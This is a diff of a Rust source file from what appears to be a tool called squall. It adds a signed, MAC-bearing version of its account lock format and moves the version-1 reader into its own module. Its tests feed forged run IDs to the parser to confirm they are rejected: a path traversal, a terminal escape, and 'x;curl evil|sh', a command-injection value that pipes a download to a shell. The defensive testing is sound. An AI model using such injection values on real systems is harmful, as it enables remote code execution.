@@ -1,4 +1,5 @@
-//! The text of a lock, as it lies in an account: version 3; version 2, which had no lease; and version 1 of squall 0.1.0.
+//! The text of a lock, as it lies in an account: version 3; version 4, which is signed; version 2, which had no lease; and version 1
+//! of squall 0.1.0.
 //!
 //! Invariant: this is text from outside. Anybody who may write parameters in the account can write one, so nothing in it
 //! is believed that no lock of squall would say: it can make squall put back what a run of its catalogue could have
@@ -6,17 +7,19 @@
 
 use serde::{Deserialize, Serialize};
 
-use super::{LOCK_LIMIT, Lock, LockedChange, LockedSends, NotALock};
+use super::{LOCK_LIMIT, Lock, LockedChange, LockedSends, NotALock, first};
 use crate::account::setting::every_setting;
-use crate::account::{AccountIdentity, Location, Region, Resource, ResourceKind, Setting, Value};
+use crate::account::{AccountIdentity, Location, Mac, Region, Resource, ResourceKind, Setting, Value};
 use crate::clock::RENEWED_WITHIN;
 use crate::ids::RunId;
 use crate::outside::plain;
 use crate::plan::Cleanup;
 use crate::units::{Span, Time};
 
-/// The version that is written.
-pub const VERSION: u32 = 3;
+/// The version that is written where locks are not signed.
+const VERSION: u32 = 3;
+/// The same with a signature.
+pub(super) const SIGNED: u32 = 4;
 /// The version before leases, otherwise the same.
 const WITHOUT_LEASE: u32 = 2;
 /// Shortest and longest lease that a lock may have.
@@ -32,11 +35,11 @@ struct Versioned {
     squall: u32,
 }
 
-/// Versions 2 and 3: the locked resource is said once, and changes are on nothing else.
+/// Versions 2 to 4: the locked resource is said once, and changes are on nothing else.
 #[derive(Serialize, Deserialize)]
 #[serde(deny_unknown_fields)]
-struct Written {
-    squall: u32,
+pub(super) struct Written {
+    pub(super) squall: u32,
     run: RunId,
     title: String,
     by: String,
@@ -52,6 +55,9 @@ struct Written {
     changes: Vec<WrittenChange>,
     #[serde(default, skip_serializing_if = "Vec::is_empty")]
     sends: Vec<WrittenSends>,
+    /// Of the same text without this.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub(super) mac: Option<Mac>,
 }
 
 #[derive(Serialize, Deserialize)]
@@ -69,17 +75,17 @@ macro_rules! written_settings {
     ($($(#[$meta:meta])+ $variant:ident { $on:ident $(, $more:ident)* } in $service:ident),+ $(,)?) => {
         #[derive(Serialize, Deserialize)]
         #[serde(tag = "kind", rename_all = "snake_case", deny_unknown_fields)]
-        enum WrittenSetting {
+        pub(super) enum WrittenSetting {
             $($variant { $($more: String),* }),+
         }
 
-        fn written_setting(setting: &Setting) -> WrittenSetting {
+        pub(super) fn written_setting(setting: &Setting) -> WrittenSetting {
             match setting {
                 $(Setting::$variant { $on: _ $(, $more)* } => WrittenSetting::$variant { $($more: $more.clone()),* }),+
             }
         }
 
-        fn setting_on(resource: &Resource, setting: WrittenSetting) -> Setting {
+        pub(super) fn setting_on(resource: &Resource, setting: WrittenSetting) -> Setting {
             match setting {
                 $(WrittenSetting::$variant { $($more),* } => Setting::$variant { $on: resource.clone() $(, $more)* }),+
             }
@@ -112,42 +118,6 @@ struct WrittenSweep {
     dead_letter: String,
     arrives_within_seconds: f64,
     foreign_limit: u32,
-}
-
-/// Version 1, of squall 0.1.0: it named the account of each change by a nickname. The account that the lock lies in is
-/// the one that is meant.
-#[derive(Deserialize)]
-#[serde(deny_unknown_fields)]
-struct First {
-    #[expect(dead_code, reason = "it was read before")]
-    squall: u32,
-    run: RunId,
-    title: String,
-    by: String,
-    made_at: Time,
-    latest_end: Time,
-    #[serde(default)]
-    changes: Vec<FirstChange>,
-    #[serde(default)]
-    sends: Vec<FirstSends>,
-}
-
-#[derive(Deserialize)]
-#[serde(deny_unknown_fields)]
-struct FirstChange {
-    setting: Setting,
-    before: Value,
-    after: Value,
-    #[serde(default)]
-    whole_before: Option<String>,
-}
-
-#[derive(Deserialize)]
-#[serde(deny_unknown_fields)]
-struct FirstSends {
-    first: u32,
-    count: u32,
-    cleanup: Cleanup,
 }
 
 /// A lock on `resource` as the account holds it.
@@ -184,6 +154,7 @@ pub fn write(lock: &Lock, resource: &Resource) -> String {
             .iter()
             .map(|sends| WrittenSends { first: sends.first, count: sends.count, sweep: sweep(&sends.cleanup) })
             .collect(),
+        mac: None,
     };
     serde_json::to_string(&written).unwrap_or_default()
 }
@@ -199,10 +170,10 @@ pub fn read(resource: &Resource, text: &str) -> Result<Lock, NotALock> {
     }
     let version: Versioned = serde_json::from_str(text).or_else(|_| version_of(text)).map_err(&wrong)?;
     let lock = match version.squall {
-        1 => first(resource, text),
-        WITHOUT_LEASE | VERSION => second(resource, text),
+        1 => first::read(resource, text),
+        WITHOUT_LEASE | VERSION | SIGNED => second(resource, text),
         newer => Err(format!(
-            "it has format {newer}; this version of squall reads 1 to {VERSION}; use the version that wrote it"
+            "it has format {newer}; this version of squall reads 1 to {SIGNED}; use the version that wrote it"
         )),
     };
     let lock = lock.map_err(&wrong)?;
@@ -231,7 +202,11 @@ fn second(resource: &Resource, text: &str) -> Result<Lock, String> {
         ));
     }
     let lease = written.lease_seconds.map(|seconds| Span::from_secs(i64::from(seconds)));
-    if lease.is_some() != (written.squall == VERSION) || lease.is_some_and(|lease| lease < LEASES.0 || LEASES.1 < lease)
+    if written.mac.is_some() != (written.squall == SIGNED) {
+        return Err("it has a signature that squall does not make".into());
+    }
+    if lease.is_some() != (written.squall != WITHOUT_LEASE)
+        || lease.is_some_and(|lease| lease < LEASES.0 || LEASES.1 < lease)
     {
         return Err("its lease is not a valid one".into());
     }
@@ -261,44 +236,6 @@ fn second(resource: &Resource, text: &str) -> Result<Lock, String> {
         lease,
         sends: sends.collect(),
         changes: written.changes.into_iter().map(change).collect(),
-    })
-}
-
-fn first(resource: &Resource, text: &str) -> Result<Lock, String> {
-    let first: First = serde_json::from_str(text).map_err(|error| error.to_string())?;
-    let mut changes = Vec::new();
-    for change in first.changes {
-        let on = change.setting.resource();
-        if (on.kind, &on.name) != (resource.kind, &resource.name) {
-            return Err(format!("it would change {}", plain(&on.to_string())));
-        }
-        changes.push(LockedChange {
-            setting: setting_on(resource, written_setting(&change.setting)),
-            before: change.before,
-            after: change.after,
-            whole_before: change.whole_before,
-        });
-    }
-    let sends = first.sends.into_iter().map(|sends| {
-        let cleanup = match sends.cleanup {
-            Cleanup::Sweep { dead_letter, arrives_within, foreign_limit } => Cleanup::Sweep {
-                dead_letter: resource.beside(ResourceKind::Queue, dead_letter.name),
-                arrives_within,
-                foreign_limit,
-            },
-            Cleanup::LeaveInQueue => Cleanup::LeaveInQueue,
-        };
-        LockedSends { first: sends.first, count: sends.count, cleanup }
-    });
-    Ok(Lock {
-        run: first.run,
-        title: first.title,
-        by: first.by,
-        made_at: first.made_at,
-        latest_end: first.latest_end,
-        lease: None,
-        sends: sends.collect(),
-        changes,
     })
 }
 
@@ -432,7 +369,8 @@ mod tests {
         for run in ["../../../pwned", "x;curl evil|sh", "\u{1b}[2J", ""] {
             assert!(forged(&|json| json["run"] = json!(run), &throttled(), &pay).is_err(), "{run}");
         }
-        assert!(forged(&|json| json["squall"] = json!(4), &throttled(), &pay).unwrap_err().contains("format 4"));
+        assert!(forged(&|json| json["squall"] = json!(5), &throttled(), &pay).unwrap_err().contains("format 5"));
+        assert!(forged(&|json| json["squall"] = json!(4), &throttled(), &pay).unwrap_err().contains("signature"));
         assert!(forged(&|json| json["squall"] = json!(2), &throttled(), &pay).is_err(), "no lease in version 2");
         for lease in [json!(null), json!(1), json!(u32::MAX)] {
             assert!(forged(&|json| json["lease_seconds"] = lease.clone(), &throttled(), &pay).is_err(), "{lease}");
